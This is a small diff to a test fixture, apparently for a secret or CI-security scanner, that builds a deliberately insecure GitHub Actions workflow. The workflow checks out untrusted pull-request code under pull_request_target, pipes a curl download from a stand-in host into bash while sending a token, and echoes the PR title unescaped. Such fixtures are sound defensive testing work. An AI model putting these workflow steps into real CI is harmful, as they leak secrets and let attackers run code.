@@ -84,7 +84,8 @@ def leaky_text_files() -> dict[str, str]:
         ),
         ".github/workflows/ci.yml": (
             "name: ci\non: [pull_request_target]\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n"
-            "      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}\n"
+            "      - uses: actions/checkout@v4\n        with:\n"
+            "          ref: ${{ github.event.pull_request.head.sha }}\n"
             f"      - run: curl -H 'token {HUGGINGFACE}' https://x.invalid/install.sh | bash\n"
             f'      - run: echo "${{{{ github.event.pull_request.title }}}}" {GITLAB}\n'
         ),
